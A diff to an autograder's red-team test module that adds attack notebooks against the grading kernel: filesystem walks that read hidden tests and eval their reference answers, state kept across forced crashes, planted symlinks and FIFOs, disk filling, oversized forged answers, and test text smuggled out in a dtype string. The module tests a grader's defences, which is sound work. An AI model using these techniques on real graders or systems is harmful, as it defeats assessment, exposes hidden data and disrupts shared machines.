@@ -3,7 +3,9 @@
 Each attack is a submission of assignment 01 written against the grading kernel
 itself: IPython's transformers, the shell's methods, its events and hooks,
 tracing, the helpers the tests call, objects that equal anything, code that
-reads the hidden tests and code that sends them out. Most are the blank release
+reads the hidden tests and code that sends them out, and code aimed at the files
+the kernel shares with the grader (what it reads there, plants there for the
+grader to open, fills, and keeps across a crash). Most are the blank release
 with the attack in its first answer cell (a blank submission earns 0 points, so
 any point it gets is stolen); a few are the reference solution with one wrong
 answer and the attack, so that what the attack gains is the wrong answer's
@@ -13,9 +15,12 @@ when the tests call it, and through the import at the top of a test cell. All
 start from 01 without its experiments (``small_course``): no attack needs them.
 
 ``ATTACKS`` maps a name to (build the notebook, expected automatic score,
-expected start of the status, words the status must contain).
+expected start of the status, words the status must contain); ``notebook`` builds
+one with the path of the test's file outside the sandbox, which some aim at.
 ``tests/system/test_red_team.py`` grades them all at once, sandbox on.
 """
+from nbformat.v4 import new_code_cell
+
 from autograder.course.cells import graded_cells
 from small_course import FULL, blank as _blank, reference as _reference
 
@@ -23,15 +28,24 @@ from small_course import FULL, blank as _blank, reference as _reference
 WRONG_GAUSSIAN = "def gaussian_nll(y, mean, scale):\n    return tf.constant(0.0)\n"
 
 
-def _appended(read, code, function):
-    """The notebook ``read()`` gives with ``code`` after ``function``'s answer (so a definition in
-    ``code`` is the one that counts)."""
+def edited(read, codes, last=""):
+    """The notebook ``read()`` gives with each code of ``codes`` ({function: code}) after that
+    function's answer (so a definition in it is the one that counts), and ``last``, if any, as a
+    code cell of its own at the end."""
     def build():
         nb = read()
-        cell = graded_cells(nb)[function]
-        cell.source = cell.source + "\n\n" + code
+        for function, code in codes.items():
+            cell = graded_cells(nb)[function]
+            cell.source = cell.source + "\n\n" + code
+        if last:
+            nb.cells.append(new_code_cell(last))
         return nb
     return build
+
+
+def _appended(read, code, function):
+    """The notebook ``read()`` gives with ``code`` after ``function``'s answer."""
+    return edited(read, {function: code})
 
 
 def blank(code, function="brier_score"):
@@ -381,11 +395,11 @@ def _first_array(data):
     return None
 
 
-def _forged(request, answer_file, namespace=None):
+def _forged(request, namespace=None):
     question = json.loads(request)
     target = json.dumps(question.get("args", ""))[:400]
     if FORGE_ONLY and FORGE_ONLY not in target:
-        return _real_respond(request, answer_file, namespace)
+        return _real_respond(request, namespace)
     given = _first_array(question.get("args"))
     value = numpy.zeros(()) if given is None else numpy.asarray(given, dtype="float32")
     if ANSWER == "zeros":
@@ -397,8 +411,7 @@ def _forged(request, answer_file, namespace=None):
         answer = {"value": {"t": "py", "v": base64.b64encode(_hidden.encode()).decode()[:3000]}}
     else:
         answer = {"value": bdl.wire.encode(value)}
-    with open(answer_file, "w") as handle:
-        json.dump(answer, handle)
+    return bdl.wire.Answer(json.dumps(answer))
 
 
 bdl.wire.respond = _forged
@@ -430,10 +443,431 @@ def first_cell(code, build):
     def made():
         nb = build()
         index = next(number for number, cell in enumerate(nb.cells) if cell.cell_type == "code")
-        from nbformat.v4 import new_code_cell
         nb.cells.insert(index + 1, new_code_cell(code))
         return nb
     return made
+
+
+# ---------------------------------------------------------------- the kernel and the grader's files
+# What the kernel can reach on the grading machine: every folder it can write (its working folder,
+# temp folder and home, and the folder of its connection file, which it shares with the grader),
+# every file it can read, and what a crashed run left for the next. Attacks read there whatever
+# holds a test (the grader's progress and answer files, by the variable that named them and by
+# search), copy the tests' reference code out of it as their answers, keep it across a crash, and
+# plant symbolic links, FIFOs and large files for the grader to open, under the names its files had.
+# FOUND starts every line by which an attack reports, in its own last cell, what it found that a
+# test holds; the grader's outputs must hold none. SENTINEL stands for a file outside the sandbox
+# that the test makes and checks unchanged (``notebook`` puts its path in).
+FOUND = "red team found: "
+SENTINEL = "@SENTINEL@"
+# What test code holds, as the kernel spells it: words its own cells (in IPython's history) never hold.
+TELLING = '("ass" + "ert", "BEGIN " + "HIDDEN", "_refer" + "ence")'
+
+# Every folder the kernel can write, its connection file's named two ways: on its command line
+# (ipykernel's ``-f``), or by ipykernel; and the folder of the grader's old progress variable.
+WRITABLE = r'''
+import os, sys, tempfile
+_found = {}
+
+
+def _connection_files():
+    return [os.path.abspath(arg) for arg in sys.argv if arg.endswith(".json")]
+
+
+def _writable():
+    folders = {os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/tmp", "/dev/shm"}
+    folders |= {os.path.dirname(path) for path in _connection_files()}
+    if os.environ.get("BDL_GRADING_PROGRESS"):
+        folders.add(os.path.dirname(os.environ["BDL_GRADING_PROGRESS"]))
+    return sorted(folder for folder in folders if os.path.isdir(folder) and os.access(folder, os.W_OK))
+'''
+BY_IPYKERNEL = r'''
+from ipykernel import get_connection_file
+
+
+def _connection_files():
+    return [get_connection_file()]
+'''
+# Every text that looks like test code, in the grader's files by their old names and anywhere in
+# the folders the kernel can write: with open and os.walk, or with pathlib and glob.
+SEARCH_OPEN = r'''
+def _read(path):
+    try:
+        if os.path.isfile(path) and os.path.getsize(path) < 2**22:
+            with open(path, errors="replace") as handle:
+                text = handle.read()
+            if any(word in text for word in %(telling)s):
+                _found[text] = path
+    except OSError:
+        pass
+
+
+def _search():
+    progress = os.environ.get("BDL_GRADING_PROGRESS")
+    if progress:
+        _read(progress)
+        _read(os.path.join(os.path.dirname(progress), "answer.json"))
+    for top in _writable():
+        for folder, _, names in os.walk(top):
+            for name in names:
+                _read(os.path.join(folder, name))
+    return list(_found)
+''' % {"telling": TELLING}
+SEARCH_GLOB = r'''
+import glob, pathlib
+
+
+def _search():
+    for top in _writable():
+        for name in glob.glob(os.path.join(glob.escape(top), "**"), recursive=True):
+            path = pathlib.Path(name)
+            try:
+                if path.is_file() and path.stat().st_size < 2**22:
+                    text = path.read_text(errors="replace")
+                    if any(word in text for word in %(telling)s):
+                        _found[text] = name
+            except OSError:
+                pass
+    return list(_found)
+''' % {"telling": TELLING}
+# The expression a test compares a function's result with (``_expected = ...``), where it is
+# written in the names of the arguments the test calls the function with: the test's own answer.
+REFERENCE_EXPRESSION = r'''
+import ast
+
+
+def _expected_of(name, count):
+    for text in _search():
+        try:
+            tree = ast.parse(text)
+        except SyntaxError:
+            continue
+        for call in ast.walk(tree):
+            if not (isinstance(call, ast.Call) and getattr(call.func, "id", "") == name and len(call.args) == count
+                    and all(isinstance(arg, ast.Name) for arg in call.args)):
+                continue
+            names = [arg.id for arg in call.args]
+            for node in ast.walk(tree):
+                if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "_expected":
+                    if {n.id for n in ast.walk(node.value) if isinstance(n, ast.Name)} <= {*names, "tf", "tfd", "np"}:
+                        return names, ast.unparse(node.value)
+    return None
+'''
+# gaussian_nll and laplace_nll answer with the test's reference, through eval ...
+COPIED_BY_EVAL = r'''
+import numpy as np, tensorflow as tf, tensorflow_probability as tfp
+
+
+def _copied(name, *args):
+    found = _expected_of(name, len(args))
+    if found is None:
+        raise NotImplementedError
+    names, expression = found
+    return eval(expression, {"tf": tf, "tfd": tfp.distributions, "np": np, **dict(zip(names, args))})
+
+
+def gaussian_nll(y, mean, scale):
+    return _copied("gaussian_nll", y, mean, scale)
+'''
+LAPLACE_BY_EVAL = "def laplace_nll(y, loc, scale):\n    return _copied('laplace_nll', y, loc, scale)\n"
+# ... or saved as a module of their own and imported.
+COPIED_AS_MODULE = r'''
+def _saved(name, *args):
+    found = _expected_of(name, len(args))
+    if found is None:
+        return False
+    names, expression = found
+    folder = tempfile.gettempdir()
+    pathlib.Path(folder, f"_copied_{name}.py").write_text(
+        "import numpy as np, tensorflow as tf, tensorflow_probability as tfp\ntfd = tfp.distributions\n\n\n"
+        f"def answer({', '.join(names)}):\n    return {expression}\n")
+    if folder not in sys.path:
+        sys.path.insert(0, folder)
+    return True
+
+
+def gaussian_nll(y, mean, scale):
+    if not _saved("gaussian_nll", y, mean, scale):
+        raise NotImplementedError
+    import _copied_gaussian_nll
+    return _copied_gaussian_nll.answer(y, mean, scale)
+'''
+LAPLACE_AS_MODULE = ("def laplace_nll(y, loc, scale):\n"
+                     "    if not _saved('laplace_nll', y, loc, scale):\n"
+                     "        raise NotImplementedError\n"
+                     "    import _copied_laplace_nll\n"
+                     "    return _copied_laplace_nll.answer(y, loc, scale)\n")
+# The last cell: what the attack found, for the outputs of the instructor's autograded notebook.
+REPORT_FOUND = ("try:\n"
+                "    for _text, _where in _found.items():\n"
+                f"        print({FOUND!r} + _where)\n"
+                "        print(_text)\n"
+                "except NameError:\n"
+                "    pass\n")
+
+
+def reads_tests(spelling):
+    """A blank 01 whose gaussian_nll and laplace_nll answer with the reference their tests compare
+    with, found in any file that holds a test: "open" (the old variable, open, os.walk, eval,
+    ipykernel) or "glob" (the connection file's folder from the command line, pathlib, glob, the
+    reference saved as a module and imported: no name the review knows)."""
+    if spelling == "open":
+        first = WRITABLE + BY_IPYKERNEL + SEARCH_OPEN + REFERENCE_EXPRESSION + COPIED_BY_EVAL
+        return edited(_blank, {"gaussian_nll": first, "laplace_nll": LAPLACE_BY_EVAL}, REPORT_FOUND)
+    first = WRITABLE + SEARCH_GLOB + REFERENCE_EXPRESSION + COPIED_AS_MODULE
+    return edited(_blank, {"gaussian_nll": first, "laplace_nll": LAPLACE_AS_MODULE}, REPORT_FOUND)
+
+
+# Across a crash: adversarial_loss, called by its tests, searches for every ``def _...`` in the
+# files changed since the notebook started (the whole readable file system, or the folders it
+# can write), keeps them in every folder it can write and kills its kernel; in the run that
+# grades the submission again, fgsm answers with a kept ``_reference...fgsm`` (hidden in
+# adversarial_loss's tests), and the notebook reports any state an earlier run left.
+KEEP_OPEN = r'''
+import ast, textwrap, time
+_since = time.time() - 60
+_kept = [os.path.join(folder, "_kept.py") for folder in _writable() if os.path.isfile(os.path.join(folder, "_kept.py"))]
+for _path in _kept:
+    _found["state from an earlier run"] = _path
+
+
+def fgsm(loss_fn, x, y, eps):
+    for path in _kept:
+        with open(path) as handle:
+            pieces = handle.read().split("\n# ----\n")
+        scope = {"tf": tf, "np": np}
+        for piece in pieces:
+            try:
+                exec(piece, scope)
+            except Exception:
+                pass
+        for name, value in scope.items():
+            if name.startswith("_reference") and name.endswith("fgsm"):
+                return value(loss_fn, x, y, eps)
+    raise NotImplementedError
+'''
+KEEP_OPEN_CRASH = r'''
+def adversarial_loss(loss_fn, x, y, eps):
+    pieces = []
+    for folder, folders, names in os.walk("/"):
+        if folder in ("/proc", "/sys", "/dev"):
+            folders[:] = []
+            continue
+        for name in names:
+            path = os.path.join(folder, name)
+            try:
+                if os.lstat(path).st_mtime < _since or not os.path.isfile(path) or os.path.getsize(path) > 2**22:
+                    continue
+                with open(path, errors="replace") as handle:
+                    text = handle.read()
+                tree = ast.parse(text)
+            except (OSError, SyntaxError, ValueError):
+                continue
+            pieces += [textwrap.dedent(ast.get_source_segment(text, node, padded=True)) for node in ast.walk(tree)
+                       if isinstance(node, ast.FunctionDef) and node.name.startswith("_")]
+    for folder in _writable():
+        try:
+            with open(os.path.join(folder, "_kept.py"), "w") as handle:
+                handle.write("\n# ----\n".join(pieces))
+        except OSError:
+            pass
+    os._exit(1)
+'''
+KEEP_GLOB = r'''
+import ast, glob, pathlib, textwrap
+_kept = [folder for folder in _writable() if pathlib.Path(folder, "_kept_reference.py").is_file()]
+for _folder in _kept:
+    _found["state from an earlier run"] = _folder
+
+
+def fgsm(loss_fn, x, y, eps):
+    if not _kept:
+        raise NotImplementedError
+    sys.path.insert(0, _kept[0])
+    import _kept_reference
+    return _kept_reference.answer(loss_fn, x, y, eps)
+'''
+KEEP_GLOB_CRASH = r'''
+def adversarial_loss(loss_fn, x, y, eps):
+    kept = "import numpy as np, tensorflow as tf\n"
+    for top in _writable():
+        for name in glob.glob(os.path.join(glob.escape(top), "**"), recursive=True):
+            try:
+                text = pathlib.Path(name).read_text(errors="replace") if pathlib.Path(name).is_file() else ""
+                tree = ast.parse(text)
+            except (OSError, SyntaxError, ValueError):
+                continue
+            for node in ast.walk(tree):
+                if isinstance(node, ast.FunctionDef) and node.name.startswith("_reference") and "fgsm" in node.name:
+                    kept += "\n\n" + textwrap.dedent(ast.get_source_segment(text, node, padded=True))
+                    kept += f"\n\nanswer = {node.name}\n"
+    for folder in _writable():
+        try:
+            pathlib.Path(folder, "_kept_reference.py").write_text(kept)
+        except OSError:
+            pass
+    os.abort()
+'''
+
+
+def keeps_state(spelling):
+    """A blank 01 that keeps what it found across the crash re-run: "open" (os.walk over every
+    file, exec, os._exit, ipykernel) or "glob" (pathlib and glob over the folders it can write,
+    a kept module imported, os.abort: no name the review knows)."""
+    if spelling == "open":
+        return edited(_blank, {"fgsm": WRITABLE + BY_IPYKERNEL + KEEP_OPEN, "adversarial_loss": KEEP_OPEN_CRASH},
+                      REPORT_FOUND)
+    return edited(_blank, {"fgsm": WRITABLE + KEEP_GLOB, "adversarial_loss": KEEP_GLOB_CRASH}, REPORT_FOUND)
+
+
+# In every folder it can write, under the names of the grader's files (the progress file, the
+# answer file, the kernel's connection file): a symbolic link to the sentinel outside the
+# sandbox (or to a new file beside it), planted when the cell runs and again when the tests
+# call brier_score; or a FIFO, after which brier_score kills its kernel (a grader that reads
+# the progress file after a crash blocks on it).
+PLANTS = WRITABLE + r'''
+_SENTINEL = %(sentinel)r
+
+
+def _names():
+    names = {"progress": _SENTINEL, "answer.json": os.path.join(os.path.dirname(_SENTINEL), "answer.json")}
+    for path in _connection_files():
+        names[os.path.basename(path)] = os.path.join(os.path.dirname(_SENTINEL), os.path.basename(path))
+    return names
+
+
+def _plant(fifo=False):
+    for folder in _writable():
+        for name, target in _names().items():
+            path = os.path.join(folder, name)
+            try:
+                if os.path.lexists(path):
+                    os.remove(path)
+                if fifo:
+                    os.mkfifo(path)
+                else:
+                    os.symlink(target, path)
+            except OSError:
+                pass
+''' % {"sentinel": SENTINEL}
+PLANTS_LINKS = PLANTS + ("\n\n_plant()\n\n\n"
+                         "def brier_score(probs, labels):\n    _plant()\n    raise NotImplementedError\n")
+PLANTS_FIFOS = PLANTS + ("\n\n_plant(fifo=True)\n\n\n"
+                         "def brier_score(probs, labels):\n    _plant(fifo=True)\n    os._exit(1)\n")
+
+# The disk the kernel shares with the grader, filled when the tests call the function: 200 MiB at
+# most (so that a grader that does not stop it fills no CI machine's disk), then a wait to be
+# stopped; or thousands of files and a large (sparse) file under the progress file's name.
+FILLS_BYTES = WRITABLE + r'''
+import time
+_filled = []
+
+
+def gaussian_nll(y, mean, scale):
+    if not _filled:
+        _filled.append(1)
+        for path in _connection_files():
+            try:
+                with open(os.path.join(os.path.dirname(path), "filler"), "wb") as handle:
+                    for _ in range(200):
+                        handle.write(bytes(2**20))
+                        handle.flush()
+            except OSError:
+                pass
+        time.sleep(30)
+    return tf.constant(0.0)
+'''
+FILLS_FILES = WRITABLE + r'''
+import pathlib, time
+
+
+def brier_score(probs, labels):
+    for path in _connection_files():
+        folder = pathlib.Path(path).parent
+        try:
+            for number in range(5000):
+                (folder / f"filler-{number}").touch()
+            with open(folder / "progress", "wb") as handle:
+                handle.truncate(2**30)
+        except OSError:
+            pass
+    time.sleep(30)
+    raise NotImplementedError
+'''
+
+# Answers no honest kernel gives: huge integers (300 digits, and 5000: more than Python reads as a
+# number), long strings (1 MB, and more than the examiner reads), a list nested 100,000 deep,
+# and an error whose class names are megabytes long, in turn for every question.
+HUGE_ANSWERS = r'''
+import json
+import bdl.wire
+_asked = []
+
+
+def _huge(request, namespace=None):
+    _asked.append(request)
+    kind = len(_asked) % 6
+    if kind == 0:
+        text = '{"value": {"t": "py", "v": %s}}' % ("9" * 300)
+    elif kind == 1:
+        text = '{"value": {"t": "py", "v": %s}}' % ("9" * 5000)
+    elif kind == 2:
+        text = json.dumps({"value": {"t": "py", "v": "RED TEAM TEXT " * 80_000}})
+    elif kind == 3:
+        text = json.dumps({"value": {"t": "py", "v": "RED TEAM TEXT " * 5_000_000}})
+    elif kind == 4:
+        text = '{"value": ' + '{"t": "list", "v": [' * 100_000 + "]}" * 100_000 + "}"
+    else:
+        text = json.dumps({"error": ["builtins." + "RED TEAM TEXT " * 10_000] * 100})
+    return bdl.wire.Answer(text)
+
+
+bdl.wire.respond = _huge
+'''
+# A correct 01 whose fgsm, given float64 inputs, returns an object whose dtype (a question the
+# examiner puts, to name the wrong type in its message) is a long string: the base64 of any test
+# text the kernel found, from its hidden part on.
+CARRIES_IN_DTYPE = WRITABLE + SEARCH_OPEN + r'''
+import base64
+_honest_fgsm = fgsm
+
+
+class _Carrier:
+    is_tensor_like = False
+
+    @property
+    def dtype(self):
+        hidden = "BEGIN " + "HIDDEN"
+        texts = [text[text.index(hidden):] for text in _search() if hidden in text]
+        return "float64 " + base64.b64encode((texts or ["nothing found"])[0].encode()).decode() * 100
+
+
+def fgsm(loss_fn, x, y, eps):
+    if tf.as_dtype(x.dtype) == tf.float64:
+        return _Carrier()
+    return _honest_fgsm(loss_fn, x, y, eps)
+'''
+# The kit's stand-ins (and a course helper) in place of the answers they stand in for in other tests,
+# or resemble: each in the answer cell of the function it replaces.
+STAND_INS = {"brier_score": "from bdl.questions.bayesian_cnn import BrierLoss\nbrier_score = BrierLoss()\n",
+             "gaussian_nll": "from bdl.questions.likelihoods import LinearLoss\ngaussian_nll = LinearLoss(1.0)\n",
+             "categorical_nll": "from bdl.ensembles import member_categorical_nll\n"
+                                "categorical_nll = member_categorical_nll\n",
+             # the signs of the visible test's step: a stand-in that knows one answer
+             "fgsm": "from bdl.questions.likelihoods import SignStep\nfgsm = SignStep([[[-1.0], [1.0], [1.0]]])\n"}
+
+
+# Attacks spelled with no name the review knows: they are not flagged, and gain nothing all the same.
+UNFLAGGED = {"reads_tests_unflagged", "keeps_state_unflagged", "plants_links", "fills_with_files",
+             "fills_the_shared_disk", "carries_tests_in_a_dtype"}
+
+
+def notebook(name, sentinel):
+    """Attack ``name``'s notebook, with ``sentinel`` (a path) for ``SENTINEL``."""
+    nb = ATTACKS[name][0]()
+    for cell in nb.cells:
+        cell.source = cell.source.replace(SENTINEL, str(sentinel))
+    return nb
 
 
 ATTACKS = {
@@ -541,4 +975,24 @@ ATTACKS = {
     "owns_kernel_forges_when_called": (wrong(when_called(takeover("echo", forge_only="gaussian_nll",
                                                                   spelling="timeit"), DIFFERENTIABLE)),
                                        FULL - 2, "graded", ["imports timeit"]),
+    # The kernel and the grader's files: nothing of a test in any file it can read, nothing it
+    # plants followed or opened by the grader, a full disk and a crash cost the cell that did it.
+    "reads_tests": (reads_tests("open"), 0, "graded", ["calls eval", "imports ipykernel"]),
+    "reads_tests_unflagged": (reads_tests("glob"), 0, "graded", []),
+    "keeps_state": (keeps_state("open"), 0, "graded",
+                    ["graded again without cell adversarial_loss_tests (the kernel died", "calls exec",
+                     "calls os._exit"]),
+    "keeps_state_unflagged": (keeps_state("glob"), 0, "graded",
+                              ["graded again without cell adversarial_loss_tests (the kernel died"]),
+    "plants_links": (blank(PLANTS_LINKS), 0, "graded", []),
+    "plants_fifos": (blank(PLANTS_FIFOS), 0, "graded",
+                     ["graded again without cell brier_score_tests (the kernel died", "calls os._exit"]),
+    "fills_the_shared_disk": (wrong(FILLS_BYTES), FULL - 2, "graded",
+                              ["graded again without cell gaussian_nll_tests (wrote more than"]),
+    "fills_with_files": (blank(FILLS_FILES), 0, "graded",
+                         ["graded again without cell brier_score_tests (wrote more than"]),
+    "answers_huge_values": (blank(HUGE_ANSWERS), 0, "graded", ["imports bdl.wire"]),
+    # fgsm's float64 checks fail: its 2 points, and nothing else
+    "carries_tests_in_a_dtype": (edited(_reference, {"fgsm": CARRIES_IN_DTYPE}), FULL - 2, "graded", []),
+    "kit_stand_ins_as_answers": (edited(_blank, STAND_INS), 0, "graded", ["imports bdl.questions"]),
 }
